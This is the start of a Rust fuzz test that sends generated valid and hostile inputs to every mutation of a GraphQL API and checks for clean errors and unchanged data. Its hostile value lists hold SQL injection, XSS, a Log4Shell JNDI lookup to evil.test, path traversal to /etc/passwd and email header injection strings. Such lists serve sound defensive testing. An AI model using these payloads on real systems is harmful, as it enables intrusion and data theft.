//! Fuzzing every mutation's input. Calls are generated from
//! `schema.graphql`: each argument and input field is drawn from values
//! that look valid in the test's world (real ids, fresh addresses, live
//! link tokens) and hostile ones (blank, huge, control characters, unicode,
//! SQL and GraphQL text, out-of-range numbers, malformed and foreign ids,
//! null where a value is required, wrong enum values, long and deeply
//! nested lists). Each call goes over HTTP with the tenant's all-scopes
//! key, or (a share of them) with no credentials. Every answer must be:
//!
//! - no 5xx status, and a JSON body;
//! - errors each with an `extensions.code`, none `INTERNAL`;
//! - when the mutation was refused, every row unchanged (the harness's
//!   snapshot, plus the tenants and the jobs they enqueue).
//!
//! Deterministic: each case draws from `SEED` (or `CANOPY_FUZZ_SEED`), the
//! mutation and the case's number; `CANOPY_FUZZ_CASES` sets the number of
//! cases per mutation. A failure names all three and shows the request.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;

use async_graphql_parser::types::{BaseType, Type, TypeKind, TypeSystemDefinition};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use canopy_api::ids::{NodeKind, encode};
use canopy_tests::{PASSWORD, TestApp, TestDb, data_of, global_id_number, link_token, string_at};
use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use serde_json::{Map, Value, json};
use sqlx::PgPool;

const SEED: u64 = 0x00C4_40B1_F022;
/// Cases per mutation (the public ones that hash a password run fewer).
const CASES: usize = 48;

/// The mutations of each test, so that they run side by side; together
/// they are every field of `Mutation` (checked by the first test).
const CUSTOMER_MUTATIONS: &[&str] = &[
    "createCustomer",
    "createCustomers",
    "upsertCustomer",
    "updateCustomer",
    "moveCustomer",
    "deleteCustomer",
    "assignCustomerAdministrator",
    "removeCustomerAdministrator",
    "attachEntitlement",
    "detachEntitlement",
];
const USER_MUTATIONS: &[&str] = &[
    "createUser",
    "createUsers",
    "updateUsers",
    "upsertUser",
    "updateUser",
    "setUserStatus",
    "approveUser",
    "resendActivation",
    "revokeInvitation",
    "revokeSessions",
    "deleteUser",
];
const OTHER_MUTATIONS: &[&str] = &[
    "createWebhookEndpoint",
    "updateWebhookEndpoint",
    "deleteWebhookEndpoint",
    "redeliverWebhook",
    "signUp",
    "validateEmail",
    "requestPasswordReset",
    "resetPassword",
    "login",
    "activateAccount",
    "requestNewLink",
    "logout",
    "updateTenant",
    "retryJob",
    "cancelJob",
    "retryJobs",
    "pauseJobKind",
    "resumeJobKind",
    "createApiKey",
    "revokeApiKey",
];
const PUBLIC: &[&str] = &[
    "signUp",
    "validateEmail",
    "requestPasswordReset",
    "resetPassword",
    "login",
    "activateAccount",
    "requestNewLink",
];
/// Mutations that hash a password when the input looks right: fewer cases.
const HASHING: &[&str] = &["signUp", "resetPassword", "login", "activateAccount"];

// ---------------------------------------------------------------------------
// The schema, as far as inputs go.

/// An argument or an input object's field.
#[derive(Clone, Debug)]
struct Input {
    name: String,
    ty: Type,
    has_default: bool,
}

#[derive(Clone, Debug)]
struct MutationField {
    name: String,
    args: Vec<Input>,
    returns: String,
}

struct Schema {
    mutations: Vec<MutationField>,
    inputs: BTreeMap<String, Vec<Input>>,
    enums: BTreeMap<String, Vec<String>>,
    /// Object and interface types: (field, base type, takes a required argument).
    objects: BTreeMap<String, Vec<(String, String, bool)>>,
}

fn schema() -> Schema {
    let document = canopy_tests::schema_document();
    let mut schema = Schema {
        mutations: Vec::new(),
        inputs: BTreeMap::new(),
        enums: BTreeMap::new(),
        objects: BTreeMap::new(),
    };
    let input = |value: &async_graphql_parser::types::InputValueDefinition| Input {
        name: value.name.node.to_string(),
        ty: value.ty.node.clone(),
        has_default: value.default_value.is_some(),
    };
    for definition in &document.definitions {
        let TypeSystemDefinition::Type(definition) = definition else {
            continue;
        };
        let name = definition.node.name.node.to_string();
        let fields = match &definition.node.kind {
            TypeKind::Object(object) => &object.fields,
            TypeKind::Interface(interface) => &interface.fields,
            TypeKind::InputObject(object) => {
                let fields = object.fields.iter().map(|f| input(&f.node)).collect();
                schema.inputs.insert(name, fields);
                continue;
            }
            TypeKind::Enum(values) => {
                let values = values
                    .values
                    .iter()
                    .map(|v| v.node.value.node.to_string())
                    .collect();
                schema.enums.insert(name, values);
                continue;
            }
            _ => continue,
        };
        let mut object = Vec::new();
        for field in fields {
            let field = &field.node;
            let required = field
                .arguments
                .iter()
                .any(|a| !a.node.ty.node.nullable && a.node.default_value.is_none());
            object.push((
                field.name.node.to_string(),
                canopy_tests::base_type(&field.ty.node),
                required,
            ));
            if name == "Mutation" {
                schema.mutations.push(MutationField {
                    name: field.name.node.to_string(),
                    args: field.arguments.iter().map(|a| input(&a.node)).collect(),
                    returns: canopy_tests::base_type(&field.ty.node),
                });
            }
        }
        schema.objects.insert(name, object);
    }
    schema
}

impl Schema {
    /// What to select below a value of `ty`: its leaves, and `depth` levels
    /// of the objects below it.
    fn selection(&self, ty: &str, depth: usize) -> String {
        let Some(fields) = self.objects.get(ty) else {
            return String::new();
        };
        let mut parts = vec!["__typename".to_owned()];
        for (name, base, required) in fields {
            if *required {
                continue;
            }
            if !self.objects.contains_key(base) {
                parts.push(name.clone());
            } else if depth > 0 {
                parts.push(format!("{name}{}", self.selection(base, depth - 1)));
            }
        }
        format!(" {{ {} }}", parts.join(" "))
    }
}

#[test]
fn the_fuzz_groups_hold_every_mutation_once() {
    let schema = schema();
    let mutations: BTreeSet<&str> = schema.mutations.iter().map(|m| m.name.as_str()).collect();
    let mut grouped = BTreeSet::new();
    for name in CUSTOMER_MUTATIONS
        .iter()
        .chain(USER_MUTATIONS)
        .chain(OTHER_MUTATIONS)
    {
        assert!(grouped.insert(*name), "{name} is in two fuzz groups");
    }
    assert_eq!(
        grouped, mutations,
        "the fuzz groups (tests/tests/e2e/fuzz.rs) and the mutations of schema.graphql differ"
    );
}

// ---------------------------------------------------------------------------
// The world: what valid-looking values name.

const KINDS: [NodeKind; 10] = [
    NodeKind::Tenant,
    NodeKind::ApiKey,
    NodeKind::Customer,
    NodeKind::User,
    NodeKind::Entitlement,
    NodeKind::Job,
    NodeKind::Session,
    NodeKind::WebhookEndpoint,
    NodeKind::WebhookDelivery,
    NodeKind::Event,
];

fn table(kind: NodeKind) -> &'static str {
    match kind {
        NodeKind::Tenant => "tenants",
        NodeKind::ApiKey => "api_keys",
        NodeKind::Customer => "customers",
        NodeKind::User => "users",
        NodeKind::Entitlement => "entitlements",
        NodeKind::Job => "jobs",
        NodeKind::Session => "sessions",
        NodeKind::WebhookEndpoint => "webhook_endpoints",
        NodeKind::WebhookDelivery => "webhook_deliveries",
        NodeKind::Event => "events",
    }
}

/// The ids of one tenant's objects, by kind (index into `KINDS`).
#[derive(Default, Clone)]
struct Ids([Vec<String>; 10]);

impl Ids {
    fn of(&self, kind: NodeKind) -> &[String] {
        &self.0[KINDS.iter().position(|k| *k == kind).unwrap()]
    }

    async fn load(app: &TestApp, tenant: i64, except_key: &str) -> Ids {
        let mut ids = Ids::default();
        for (slot, kind) in KINDS.iter().enumerate() {
            let column = if *kind == NodeKind::Tenant {
                "id"
            } else {
                "tenant_id"
            };
            let rows: Vec<i64> = sqlx::query_scalar(&format!(
                "SELECT id FROM {} WHERE {column} = $1 ORDER BY id",
                table(*kind)
            ))
            .bind(tenant)
            .fetch_all(&app.pool)
            .await
            .unwrap();
            ids.0[slot] = rows
                .into_iter()
                .map(|id| encode(*kind, id))
                // The key driving the fuzz is never a target.
                .filter(|id| id != except_key)
                .collect();
        }
        ids
    }
}

struct World {
    app: TestApp,
    /// The numbers of Acme and of the other tenant.
    acme: i64,
    other: i64,
    /// The id of the all-scopes key, which fuzzed calls must not revoke.
    key_id: String,
    ids: Ids,
    other_ids: Ids,
    /// Every id ever seen, so deleted ones come back as stale ids.
    seen: BTreeSet<String>,
    /// Acme's users' addresses, and the other tenant's.
    emails: Vec<String>,
    other_emails: Vec<String>,
    /// Live link tokens by purpose, and ones spent or of the other tenant.
    tokens: BTreeMap<String, Vec<String>>,
    stale_tokens: Vec<String>,
    counter: u64,
}

impl World {
    async fn build(pool: PgPool) -> World {
        let app = TestApp::spawn(pool).await;
        app.activate_admin().await;
        let other = app.create_tenant("Other").await;
        app.activate(&link_token(&other.activation_link)).await;
        let customer = app
            .data_as(
                &other.api_key,
                "mutation { createCustomer(input: { title: \"Elsewhere\" }) { customer { id } } }",
                json!({}),
            )
            .await;
        let customer = string_at(&customer, &["createCustomer", "customer", "id"]);
        app.data_as(
            &other.api_key,
            "mutation($c: ID!) {
               createUser(input: { customerId: $c, email: \"someone@other.test\",
                 activation: SEND_ACTIVATION_EMAIL }) { user { id } }
               attachEntitlement(customerId: $c, kind: CLOUD_ACCOUNT, reference: \"elsewhere\") { id } }",
            json!({ "c": customer }),
        )
        .await;
        let key_id = app.data("{ viewer { apiKey { id } } }", json!({})).await;
        let mut world = World {
            acme: global_id_number(&app.tenant.tenant_id),
            other: global_id_number(&other.tenant_id),
            key_id: string_at(&key_id, &["viewer", "apiKey", "id"]),
            app,
            ids: Ids::default(),
            other_ids: Ids::default(),
            seen: BTreeSet::new(),
            emails: Vec::new(),
            other_emails: Vec::new(),
            tokens: BTreeMap::new(),
            stale_tokens: Vec::new(),
            counter: 0,
        };
        world.refresh().await;
        world
    }

    fn unique(&mut self) -> u64 {
        self.counter += 1;
        self.counter
    }

    /// Adds fresh objects for the next mutation to act on: a small tree
    /// with users, an administrator, entitlements, a key, a failed job and
    /// live links of every purpose.
    async fn replenish(&mut self) {
        let n = self.unique();
        let app = &self.app;
        let root = app.customer(&format!("Fuzz root {n}"), None).await;
        let child = app.customer(&format!("Fuzz child {n}"), Some(&root)).await;
        let grand = app.customer(&format!("Fuzz grand {n}"), Some(&child)).await;
        app.data(
                "mutation($c: ID!, $g: ID!, $e: String!, $f: String!, $r: String!, $s: String!) {
                   shown: createUser(input: { customerId: $c, email: $e,
                     activation: DISPLAY_ACTIVATION_LINK }) { user { id } }
                   sent: createUser(input: { customerId: $g, email: $f,
                     activation: SEND_ACTIVATION_EMAIL }) { user { id } }
                   code: attachEntitlement(customerId: $c, kind: AUTHORIZATION_CODE, reference: $r) { id }
                   cloud: attachEntitlement(customerId: $g, kind: CLOUD_ACCOUNT, reference: $s) { id }
                   createApiKey(name: \"fuzz target\", scopes: [JOBS_READ]) { secret } }",
                json!({
                    "c": child, "g": grand,
                    "e": format!("invited-{n}@acme.test"), "f": format!("sent-{n}@acme.test"),
                    "r": format!("code-{n}"), "s": format!("cloud-{n}"),
                }),
            )
            .await;
        let registered = format!("member-{n}@acme.test");
        let member = app.insert_user(&registered, Some(&child)).await;
        // A self sign-up waiting for approval.
        let waiting = app
            .insert_user(&format!("waiting-{n}@acme.test"), Some(&grand))
            .await;
        sqlx::query("UPDATE users SET status = 'PENDING_APPROVAL' WHERE id = $1")
            .bind(global_id_number(&waiting))
            .execute(&app.pool)
            .await
            .unwrap();
        app.data(
            "mutation($c: ID!, $e: String!, $u: ID!, $new: String!) {
               assignCustomerAdministrator(customerId: $c, email: $e) { customer { id } }
               updateUser(id: $u, input: { email: $new }) { user { id } } }",
            json!({
                "c": child, "e": registered,
                "u": member,
                "new": format!("renamed-{n}@acme.test"),
            }),
        )
        .await;
        // A reset link for an administrator with a password.
        data_of(
            app.post(
                None,
                "mutation($t: ID!) { requestPasswordReset(tenantId: $t, email: \"admin@acme.test\") }",
                json!({ "t": app.tenant.tenant_id }),
            )
            .await,
        );
        sqlx::query(
            "UPDATE jobs SET state = 'KILLED' WHERE tenant_id = $1
               AND id = (SELECT max(id) FROM jobs WHERE tenant_id = $1)",
        )
        .bind(self.acme)
        .execute(&app.pool)
        .await
        .unwrap();
        self.refresh().await;
    }

    /// Reads the ids, addresses and links of both tenants again.
    async fn refresh(&mut self) {
        self.ids = Ids::load(&self.app, self.acme, &self.key_id).await;
        self.other_ids = Ids::load(&self.app, self.other, "").await;
        for ids in self.ids.0.iter().chain(self.other_ids.0.iter()) {
            self.seen.extend(ids.iter().cloned());
        }
        let emails = |tenant| {
            sqlx::query_scalar::<_, String>(
                "SELECT email FROM users WHERE tenant_id = $1 ORDER BY id",
            )
            .bind(tenant)
            .fetch_all(&self.app.pool)
        };
        self.emails = emails(self.acme).await.unwrap();
        self.other_emails = emails(self.other).await.unwrap();
        let rows: Vec<(i64, i64, String, bool)> = sqlx::query_as(
            "SELECT tenant_id, id, purpose,
                    consumed_at IS NULL AND revoked_at IS NULL AND expires_at > now()
             FROM user_tokens ORDER BY id",
        )
        .fetch_all(&self.app.pool)
        .await
        .unwrap();
        self.tokens.clear();
        self.stale_tokens.clear();
        for (tenant, id, purpose, live) in rows {
            let token = self
                .app
                .keyring
                .rebuild(None, canopy_core::id::TenantId(tenant), id, &purpose)
                .expect("made under the current secret");
            if live && tenant == self.acme {
                self.tokens.entry(purpose).or_default().push(token);
            } else {
                self.stale_tokens.push(token);
            }
        }
    }

    /// A digest of every row a mutation may change: the harness's snapshot,
    /// the tenants and the jobs (a refused mutation sends no email).
    async fn digest(&self) -> String {
        let mut digest = self.app.snapshot().await;
        for table in ["tenants", "jobs"] {
            let rows: Vec<String> =
                sqlx::query_scalar(&format!("SELECT t::text FROM {table} t ORDER BY t::text"))
                    .fetch_all(&self.app.pool)
                    .await
                    .unwrap();
            writeln!(digest, "{table}: {rows:?}").unwrap();
        }
        digest
    }
}

// ---------------------------------------------------------------------------
// Values.

/// Stands for a lone UTF-16 surrogate, which JSON may carry and Rust
/// strings cannot: replaced in the request's text.
const LONE_SURROGATE: &str = "@@LONE_SURROGATE@@";

/// Text that is hostile whatever the field.
fn hostile_texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "",
        " ",
        "\t\n\r ",
        "a\u{0}b",
        "\u{0}",
        "\u{7}\u{1b}[31mred\u{1b}[0m",
        "line\nbreak",
        "\u{202e}txt.exe\u{202c}",
        "\u{200b}\u{200d}\u{feff}",
        "e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}",
        "👩\u{200d}👩\u{200d}👧\u{200d}👦🏳️\u{200d}🌈",
        "\u{10ffff}\u{fffd}\u{fffe}",
        "İıßǅＡｃｍｅ",
        "מלקוח عميل",
        "'; DROP TABLE customers; --",
        "' OR '1'='1",
        "\\x00\\'\\\"",
        "%_%",
        "$1",
        "{ __schema { types { name } } }",
        "mutation { logout }",
        "\") { id } } mutation { logout } #",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.test/a}",
        "../../etc/passwd",
        "null",
        LONE_SURROGATE,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    texts.push("x".repeat(10_000));
    texts.push("😀".repeat(10_000));
    texts.push("a\u{301}".repeat(5_000));
    texts.push(" ".repeat(10_000));
    texts.push("\u{0}".repeat(10_000));
    texts
}

/// The limits of `validation.rs`, for strings just under, at and over them.
const LIMITS: &[usize] = &[8, 20, 32, 64, 100, 128, 200, 254, 4000];

/// Builds one call's values.
struct Gen<'a> {
    rng: StdRng,
    world: &'a World,
    schema: &'a Schema,
    mutation: &'a str,
    /// The chance that a value is hostile.
    hostility: f64,
    /// Whether a value near the body limit was drawn already: one a call.
    huge: bool,
    unique: u64,
}

impl Gen<'_> {
    fn hostile(&mut self) -> bool {
        self.rng.random_bool(self.hostility)
    }

    fn pick<T: Clone>(&mut self, items: &[T]) -> T {
        items
            .choose(&mut self.rng)
            .expect("something to pick")
            .clone()
    }

    fn fresh(&mut self) -> u64 {
        self.unique += 1;
        self.unique
    }

    /// A value for an argument or field; `None` leaves it out.
    fn value(&mut self, input: &Input, depth: usize) -> Option<Value> {
        let optional = input.ty.nullable || input.has_default;
        if optional && self.rng.random_bool(0.2) {
            return self.rng.random_bool(0.5).then_some(Value::Null);
        }
        if !optional && self.hostility > 0.0 && self.rng.random_bool(0.03) {
            return self.rng.random_bool(0.5).then_some(Value::Null);
        }
        Some(self.typed(&input.name, &input.ty, depth))
    }

    fn typed(&mut self, name: &str, ty: &Type, depth: usize) -> Value {
        match &ty.base {
            BaseType::List(inner) => self.list(name, inner, depth),
            BaseType::Named(base) => self.named(name, base, depth),
        }
    }

    fn named(&mut self, name: &str, base: &str, depth: usize) -> Value {
        if let Some(fields) = self.schema.inputs.get(base) {
            return self.object(fields.clone(), depth);
        }
        if let Some(values) = self.schema.enums.get(base) {
            let values = values.clone();
            return self.enumeration(&values);
        }
        match base {
            "ID" => self.id(name),
            "String" => self.string(name),
            "Int" => self.int(name),
            "Boolean" => self.boolean(),
            "DateTime" => self.datetime(),
            _ => self.hostile_string(name),
        }
    }

    fn object(&mut self, fields: Vec<Input>, depth: usize) -> Value {
        if self.hostile() && self.rng.random_bool(0.15) {
            return match self.rng.random_range(0..5) {
                0 => json!("not an object"),
                1 => json!([]),
                2 => json!(7),
                3 => nested_object(self.rng.random_range(2..60)),
                _ => json!({}),
            };
        }
        let mut object = Map::new();
        for field in &fields {
            if let Some(value) = self.value(field, depth + 1) {
                object.insert(field.name.clone(), value);
            }
        }
        if self.hostile() && self.rng.random_bool(0.1) {
            let value = self.hostile_string("bogus");
            object.insert("bogus".into(), value);
        }
        Value::Object(object)
    }

    fn enumeration(&mut self, values: &[String]) -> Value {
        if !self.hostile() {
            return json!(self.pick(values));
        }
        let valid = self.pick(values);
        let other_enum: Vec<String> = self.schema.enums.values().flatten().cloned().collect();
        match self.rng.random_range(0..7) {
            0 => json!(valid.to_lowercase()),
            1 => json!("NOT_A_VALUE"),
            2 => json!(""),
            3 => json!(1),
            4 => json!(format!(" {valid}")),
            5 => json!(self.pick(&other_enum)),
            _ => json!(valid),
        }
    }

    fn list(&mut self, name: &str, inner: &Type, depth: usize) -> Value {
        let item = |g: &mut Self| g.typed(name, inner, depth + 1);
        if !self.hostile() {
            let mut items: Vec<Value> = (0..self.rng.random_range(1..4))
                .map(|_| item(self))
                .collect();
            items.dedup();
            return Value::Array(items);
        }
        match self.rng.random_range(0..8) {
            0 => json!([]),
            1 => {
                let one = item(self);
                json!([one, one, one])
            }
            2 if !self.huge => {
                self.huge = true;
                let one = item(self);
                Value::Array(vec![one; 10_000])
            }
            3 => {
                let mut value = item(self);
                for _ in 0..self.rng.random_range(2..60) {
                    value = json!([value]);
                }
                value
            }
            4 => json!([null]),
            // A single value: GraphQL takes it as a list of one.
            5 => item(self),
            6 => json!({ "not": "a list" }),
            _ => Value::Array(
                (0..self.rng.random_range(1..20))
                    .map(|_| item(self))
                    .collect(),
            ),
        }
    }

    /// The kind of object an id argument names.
    fn id_kind(&self, name: &str) -> NodeKind {
        match name {
            "customerId" | "parentId" | "newParentId" => NodeKind::Customer,
            "userId" => NodeKind::User,
            "tenantId" => NodeKind::Tenant,
            _ if self.mutation.contains("Customer") => NodeKind::Customer,
            _ if self.mutation.contains("Entitlement") => NodeKind::Entitlement,
            _ if self.mutation.contains("Job") => NodeKind::Job,
            _ if self.mutation.contains("ApiKey") => NodeKind::ApiKey,
            _ => NodeKind::User,
        }
    }

    fn id(&mut self, name: &str) -> Value {
        let kind = self.id_kind(name);
        let world = self.world;
        if !self.hostile() {
            let ids = world.ids.of(kind);
            return match ids.is_empty() {
                true => json!(encode(kind, 1)),
                false => json!(self.pick(ids)),
            };
        }
        let kind_name = format!("{kind:?}");
        match self.rng.random_range(0..16) {
            0 => {
                let len = self.rng.random_range(1..48);
                let bytes: Vec<u8> = (0..len).map(|_| self.rng.random()).collect();
                json!(URL_SAFE_NO_PAD.encode(bytes))
            }
            1 => {
                let other = self.pick(&KINDS.iter().filter(|k| **k != kind).collect::<Vec<_>>());
                match world.ids.of(*other).is_empty() {
                    true => json!(encode(*other, 1)),
                    false => json!(self.pick(world.ids.of(*other))),
                }
            }
            2 => match world.other_ids.of(kind).is_empty() {
                true => json!(encode(kind, 999_999)),
                false => json!(self.pick(world.other_ids.of(kind))),
            },
            3 => json!(encode(
                kind,
                self.pick(&[0, -1, i64::MIN, i64::MAX, 999_999_999])
            )),
            4 => {
                let inside = self.pick(&[
                    format!("{kind_name}:99999999999999999999"),
                    format!("{kind_name}:1.5"),
                    format!("{kind_name}: 1"),
                    format!("{kind_name}:+1"),
                    format!("{kind_name}:0x10"),
                    format!("{kind_name}:"),
                    format!("{}:1", kind_name.to_lowercase()),
                    format!("{kind_name}:1:2"),
                    "Customer:1\u{0}".to_owned(),
                    ":1".to_owned(),
                ]);
                json!(URL_SAFE_NO_PAD.encode(inside))
            }
            5 => json!(STANDARD.encode(format!("{kind_name}:1"))),
            6 => json!(format!("{kind_name}:1")),
            7 => json!(self.pick(&[json!(1), json!(-1), json!(1e20), json!(1.5), json!(true)])),
            8 => {
                let stale: Vec<&String> = world
                    .seen
                    .iter()
                    .filter(|id| !KINDS.iter().any(|k| world.ids.of(*k).contains(id)))
                    .collect();
                match stale.is_empty() {
                    true => json!(encode(kind, 424_242)),
                    false => json!(self.pick(&stale)),
                }
            }
            9 if !world.ids.of(kind).is_empty() => {
                let id = self.pick(world.ids.of(kind));
                json!(self.pick(&[
                    format!(" {id} "),
                    format!("{id}=="),
                    format!("{id}\u{0}"),
                    id.to_uppercase()
                ]))
            }
            10 => json!(world.key_id.clone()),
            _ => self.hostile_string(name),
        }
    }

    fn string(&mut self, name: &str) -> Value {
        if self.hostile() {
            return self.hostile_string(name);
        }
        let n = self.fresh();
        let world = self.world;
        json!(match name {
            "email" => {
                let fresh = format!("fuzz-{}-{n}@acme.test", self.mutation.to_lowercase());
                match self.rng.random_range(0..4) {
                    // The one address with a known password.
                    0 if self.mutation == "login" => "admin@acme.test".to_owned(),
                    0 | 3 if !world.emails.is_empty() => self.pick(&world.emails),
                    1 if !world.emails.is_empty() => self.pick(&world.emails).to_uppercase(),
                    _ => fresh,
                }
            }
            "password" => self.pick(&[PASSWORD.to_owned(), "eight ch".into(), "p".repeat(128)]),
            "token" => {
                let purpose = match self.mutation {
                    "validateEmail" => "EMAIL_VALIDATION",
                    "resetPassword" => "PASSWORD_RESET",
                    _ => "ACTIVATION",
                };
                match world.tokens.get(purpose) {
                    Some(tokens) if !tokens.is_empty() => self.pick(tokens),
                    _ => format!("{}.bogus", world.acme),
                }
            }
            "phone" => self.pick(&["+49 (30) 123-456".to_owned(), "555 0101".into()]),
            "zip" => "10115".to_owned(),
            "portalUrl" => self.pick(&[
                "https://portal.example.com".to_owned(),
                "http://localhost:3000/portal/".into(),
            ]),
            "number" => format!("N-{n}"),
            "reference" => format!("ref-{n}"),
            "info" => format!("Call Pat\non weekdays ({n})"),
            _ => self.pick(&[
                format!("Fuzz {n}"),
                format!("Müller & Söhne {n}"),
                format!("株式会社 {n}"),
                format!("O'Brien \"Ltd\" {n}"),
            ]),
        })
    }

    fn hostile_string(&mut self, name: &str) -> Value {
        let world = self.world;
        let mut choices = hostile_texts();
        let limit = self.pick(LIMITS);
        let fill = self.pick(&["x", "é", "😀"]);
        choices.push(fill.repeat(limit));
        choices.push(fill.repeat(limit + 1));
        choices.push(fill.repeat(limit - 1));
        match name {
            "email" => {
                let known = world.emails.first().cloned().unwrap_or_default();
                let foreign = world.other_emails.first().cloned().unwrap_or_default();
                choices.extend(
                    [
                        "ann",
                        "ann@",
                        "@acme.test",
                        "a b@acme.test",
                        "\"q\"@acme.test",
                        "u@[10.0.0.5]",
                        "Boss <x@evil.test>",
                        "a@b",
                        "a@localhost",
                        "ü@bücher.test",
                        "İ@acme.test",
                        "a@acme.test\nBcc: x@evil.test",
                        "a@acme.test\u{0}",
                        "admin@acme.test ",
                        "x@acme.test'--",
                    ]
                    .map(str::to_owned),
                );
                choices.push(format!("{}@acme.test", "a".repeat(64)));
                choices.push(format!("{}@acme.test", "a".repeat(65)));
                choices.push(format!("a@{}.test", "d".repeat(250)));
                choices.push(format!(" {known} "));
                choices.push(foreign);
            }
            "token" => {
                let mut tokens: Vec<String> = world.tokens.values().flatten().cloned().collect();
                tokens.extend(world.stale_tokens.iter().cloned());
                choices.extend(tokens);
                choices.extend(
                    [
                        "1.abc",
                        "99999999999999999999.abc",
                        "-1.abc",
                        "0.abc",
                        ".",
                        "1.",
                        ".abc",
                        "1.2.3",
                    ]
                    .map(str::to_owned),
                );
                choices.push(format!("{}.{}", world.acme, "A".repeat(43)));
                choices.push(format!("{}.{}", world.other, "A".repeat(43)));
            }
            "portalUrl" => choices.extend(
                [
                    "javascript:alert(1)",
                    "ftp://example.com",
                    "http://",
                    "https://exa mple.com",
                    "//evil.test",
                    "file:///etc/passwd",
                    "http://[::1",
                    "https://user:pass@example.com/",
                    "https://example.com/?a=1#frag",
                    "HTTPS://EXAMPLE.COM",
                ]
                .map(str::to_owned),
            ),
            "phone" => {
                choices.extend(["+", "()", "0", "+1 555 0101 ext. 7", "١٢٣٤"].map(str::to_owned))
            }
            _ => {}
        }
        let mut value = self.pick(&choices);
        if value.len() > 4_096 {
            if self.huge {
                value.truncate(value.floor_char_boundary(300));
            }
            self.huge = true;
        }
        json!(value)
    }

    fn int(&mut self, name: &str) -> Value {
        if !self.hostile() {
            return match name {
                "activationTtlHours" => json!(self.pick(&[1, 24, 168, 720])),
                _ => json!(self.rng.random_range(1..100)),
            };
        }
        self.pick(&[
            json!(0),
            json!(-1),
            json!(721),
            json!(i32::MAX),
            json!(i32::MIN),
            json!(2_147_483_648_i64),
            json!(-2_147_483_649_i64),
            json!(i64::MAX),
            json!(u64::MAX),
            json!(1e300),
            json!(1.5),
            json!(-0.0),
            json!("12"),
            json!(true),
            json!([1]),
        ])
    }

    fn boolean(&mut self) -> Value {
        if !self.hostile() {
            return json!(self.rng.random_bool(0.5));
        }
        self.pick(&[
            json!("true"),
            json!(1),
            json!(0),
            json!("yes"),
            json!([true]),
        ])
    }

    fn datetime(&mut self) -> Value {
        let now = chrono::Utc::now();
        if !self.hostile() {
            let days = self.rng.random_range(1..3_000);
            return json!((now + chrono::Duration::days(days)).to_rfc3339());
        }
        let past = (now - chrono::Duration::days(1)).to_rfc3339();
        let too_far = (now + chrono::Duration::days(3_661)).to_rfc3339();
        let edge =
            (now + chrono::Duration::days(3_660) - chrono::Duration::minutes(1)).to_rfc3339();
        let choices = [
            past,
            too_far,
            edge,
            "9999-12-31T23:59:59Z".to_owned(),
            "+275760-09-13T00:00:00Z".into(),
            "2030-02-30T00:00:00Z".into(),
            "2030-06-30T23:59:60Z".into(),
            "1970-01-01T00:00:00Z".into(),
            "0000-01-01T00:00:00Z".into(),
            "2030-01-01".into(),
            "2030-01-01T00:00:00".into(),
            "2030-01-01T00:00:00+99:00".into(),
            "2030-01-01T00:00:00.123456789123Z".into(),
            "tomorrow".into(),
            "".into(),
        ];
        match self.rng.random_range(0..5) {
            0 => self.pick(&[json!(0), json!(1_900_000_000), json!(-1)]),
            _ => json!(self.pick(&choices)),
        }
    }
}

fn nested_object(depth: usize) -> Value {
    let mut value = json!("deep");
    for _ in 0..depth {
        value = json!({ "bogus": value });
    }
    value
}

/// `value` written as a GraphQL literal of type `ty`.
fn literal(schema: &Schema, value: &Value, ty: Option<&Type>) -> String {
    let named = ty.and_then(|ty| match &ty.base {
        BaseType::Named(name) => Some(name.to_string()),
        BaseType::List(_) => None,
    });
    match value {
        Value::String(s)
            if named.as_ref().is_some_and(|n| schema.enums.contains_key(n)) && is_name(s) =>
        {
            s.clone()
        }
        Value::Array(items) => {
            let inner = ty.map(|ty| match &ty.base {
                BaseType::List(inner) => inner.as_ref(),
                BaseType::Named(_) => ty,
            });
            let items: Vec<String> = items.iter().map(|v| literal(schema, v, inner)).collect();
            format!("[{}]", items.join(", "))
        }
        Value::Object(map) => {
            let fields = named.as_ref().and_then(|n| schema.inputs.get(n));
            let items: Vec<String> = map
                .iter()
                .map(|(k, v)| {
                    let ty = fields
                        .and_then(|f| f.iter().find(|f| &f.name == k))
                        .map(|f| &f.ty);
                    format!("{k}: {}", literal(schema, v, ty))
                })
                .collect();
            format!("{{{}}}", items.join(", "))
        }
        other => other.to_string(),
    }
}

fn is_name(s: &str) -> bool {
    let mut chars = s.chars();
    chars
        .next()
        .is_some_and(|c| c == '_' || c.is_ascii_alphabetic())
        && chars.all(|c| c == '_' || c.is_ascii_alphanumeric())
}

/// `value` shortened for a failure message: long strings and lists cut.
fn brief(value: &Value) -> Value {
    match value {
        Value::String(s) if s.chars().count() > 80 => {
            let head: String = s.chars().take(40).collect();
            json!(format!("{head}…({} chars)", s.chars().count()))
        }
        Value::Array(items) if items.len() > 10 => {
            let mut head: Vec<Value> = items.iter().take(3).map(brief).collect();
            head.push(json!(format!("…({} items)", items.len())));
            Value::Array(head)
        }
        Value::Array(items) => Value::Array(items.iter().map(brief).collect()),
        Value::Object(map) => {
            Value::Object(map.iter().map(|(k, v)| (k.clone(), brief(v))).collect())
        }
        other => other.clone(),
    }
}

fn brief_text(text: &str) -> String {
    match text.chars().count() > 600 {
        true => format!(
            "{}…({} chars)",
            text.chars().take(600).collect::<String>(),
            text.len()
        ),
        false => text.to_owned(),
    }
}

// ---------------------------------------------------------------------------
// Running.

fn case_seed(seed: u64, mutation: &str, case: usize) -> u64 {
    // FNV-1a: stable across runs and platforms.
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for byte in mutation.bytes() {
        hash = (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3);
    }
    seed ^ hash ^ (case as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15)
}

fn setting(name: &str, default: u64) -> u64 {
    std::env::var(name)
        .ok()
        .map(|v| {
            let v = v.trim();
            match v.strip_prefix("0x") {
                Some(hex) => u64::from_str_radix(hex, 16),
                None => v.parse(),
            }
            .unwrap_or_else(|_| panic!("{name} is not a number: {v}"))
        })
        .unwrap_or(default)
}

async fn fuzz(pool: PgPool, group: &[&str]) {
    let seed = setting("CANOPY_FUZZ_SEED", SEED);
